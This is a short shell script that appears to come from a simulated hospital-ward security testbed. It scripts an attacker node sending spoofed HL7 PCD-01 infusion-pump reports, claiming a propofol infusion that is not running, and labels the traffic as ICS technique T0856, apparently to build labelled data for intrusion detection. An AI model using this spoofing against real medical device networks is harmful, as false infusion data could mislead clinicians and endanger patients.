# Spoofed device data: the attacker sends PCD-01 reports to the pump server in pump 1's name
# (MSH-3 PUMP0021 and its EUI-64) claiming a propofol infusion at 5 mL/h that is not running.
DEFAULT_DURATION=30
attack_spoofed_vitals() {
  local t0 t1
  t0=$(now)
  run_in attacker hl7-send 20 "$WARD_SIM" hl7-send --to 10.10.1.5:2575 --type pcd01 --pump PUMP0021 \
    --control PUMP0021-9001 --count 3 --interval 1 --drug propofol --drug-id 0409-4676 --rate 5 \
    --units mL/h --flow 5 --vtbi 100 || return 1
  t1=$(now)
  label spoofed_vitals T0856 attacker pumpsrv "$t0" "$t1" \
    "3 PCD-01 ORU^R01 in PUMP0021's name from 10.10.9.66 (pump 1 is 10.10.2.21) with false infusion values"
}
scenario_run() {
  start_ward "$1"
  sleep 8
  attack_spoofed_vitals
}
